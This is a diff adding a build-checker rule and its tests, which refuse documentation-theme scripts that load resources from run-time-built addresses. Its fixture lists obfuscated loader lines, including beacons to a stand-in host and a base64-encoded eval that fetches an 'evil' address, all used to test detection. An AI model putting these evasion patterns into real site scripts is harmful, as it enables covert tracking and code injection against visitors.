@@ -10,6 +10,17 @@ real path (`mkdocs build`, `disclosure check|import|merge`) and failed on main b
   Both now read the source for them, so the build stops at the same lines before it renders. A ```mermaid fence
   is refused whether or not mkdocs.yml sets up superfences' custom fence (the check cannot know which fence
   makes `<pre class="mermaid">`; the block's only purpose is the drawing).
+
+Theme scripts (rules/rendered.py `script_loading`, rules/files.py) —
+- fixed: a script of the theme folder building an address at run time ('ht' + 'tps://' + host, a variable,
+  a JavaScript escape, `new URL(path, "https://…")`, `import(u)`, `window["fe" + "tch"]`, a string timer) went
+  into site/ and ran on every page. No pattern finds every address a script can build; what is checkable is the
+  call that loads. Each use of an interface that sends a request or loads a resource (fetch, XMLHttpRequest,
+  sendBeacon, WebSocket, EventSource, workers, import(), new URL/Image/Audio, .src/.href/.innerHTML … =,
+  setAttribute of an address, location =) or runs text as code (eval, Function, string timers, window[…])
+  is refused (E404, on its line) unless it is given a relative address written out as one string. The
+  project's own scripts build the search files' addresses with `new URL`: they are listed as reviewed by
+  digest (REVIEWED_THEME_SCRIPTS); a change to one is reviewed again (test below names the digest).
 """
 
 from __future__ import annotations
@@ -54,3 +65,59 @@ def test_the_check_reports_what_the_build_reports_of_mermaid_and_titles(tmp_path
     assert built.returncode != 0 and not (root / "site").exists()
     assert {case: where for case, where in expected.items() if where not in found(checked)} == {}, checked.output
     assert found(checked) == found(built), (checked.output, built.output)
+
+
+# --- theme scripts that build addresses at run time (E404) ----------------------------------------------
+
+LOADING_SCRIPT = {   # case → a line of a script in the theme folder
+    "concatenated scheme": "var u = 'ht' + 'tps://' + host + '/c.gif'; new Image().src = u;",
+    "fetch to a computed host": "fetch(location.protocol + '//' + h + '/x');",
+    "a JavaScript escape": 'var s = document.createElement("script"); s.src = "\\x68ttps://stat.example.invalid/a.js";',
+    "new URL with another base": "fetch(new URL('x.gif', 'https://' + 'stat.example.invalid/'));",
+    "a dynamic import": "import(address);",
+    "a name built from pieces": 'window["fe" + "tch"](address);',
+    "a beacon": "navigator.sendBeacon(address, data);",
+    "a request object": "var r = new XMLHttpRequest(); r.open('GET', address);",
+    "a web socket": "var w = new WebSocket(address);",
+    "HTML written with an address": "document.body.innerHTML += '<img src=' + address + '>';",
+    "an attribute set to an address": "img.setAttribute('src', address);",
+    "code run from text": "setTimeout('fetch(address)', 10);",
+    "eval": "eval(atob('ZmV0Y2goJ2h0dHBzOi8vZXZpbCcp'));",
+}
+HARMLESS_SCRIPT = ('fetch("data/list.json").then(function (r) { return r.json(); });\n'
+                   'a.href = "../index.html"; el.setAttribute("class", "x"); el.textContent = label;\n'
+                   '// fetch(address) was tried here\nvar note = "fetch(address)"; setTimeout(function () {}, 10);\n')
+
+
+def test_a_theme_script_building_an_address_at_run_time_is_refused(tmp_path):
+    """Every case in one script of the theme folder, one per line, and a script using only relative addresses
+    written out (and the project's own scripts, reviewed): one build."""
+    import shutil
+
+    from .sitekit import REPO
+    from .test_redteam_review import THEME
+    root = write_site(tmp_path, paired_policy(), mkdocs_extra={"theme": {**THEME, "custom_dir": "overrides"}})
+    shutil.copytree(REPO / "overrides", root / "overrides")
+    (root / "overrides/assets/javascripts/stat.js").write_text("/* 本单位 */\n" + "\n".join(LOADING_SCRIPT.values()) + "\n",
+                                                               encoding="utf-8")
+    (root / "overrides/assets/javascripts/list.js").write_text(HARMLESS_SCRIPT, encoding="utf-8")
+    run = build(root)
+    refused = {int(line.split(":")[1]) for line in run.coded_lines() if line.startswith("overrides/assets/javascripts/stat.js:")
+               and " E404 " in line}
+    missed = [case for number, case in enumerate(LOADING_SCRIPT, start=2) if number not in refused]
+    assert run.returncode != 0 and not missed, (missed, run.output)
+    assert [line for line in run.coded_lines() if "stat.js" not in line] == [], run.output
+    assert not (root / "site").exists()
+
+
+def test_the_projects_own_theme_scripts_are_the_reviewed_ones():
+    """A change to a script this project ships is reviewed again: its digest goes into REVIEWED_THEME_SCRIPTS."""
+    import hashlib
+
+    from disclosure.rules.files import REVIEWED_THEME_SCRIPTS
+
+    from .sitekit import REPO
+    unreviewed = {path.relative_to(REPO).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
+                  for path in sorted((REPO / "overrides").rglob("*.js"))
+                  if hashlib.sha256(path.read_bytes()).hexdigest() not in REVIEWED_THEME_SCRIPTS}
+    assert unreviewed == {}, f"review these scripts, then list their digests in rules/files.py: {unreviewed}"
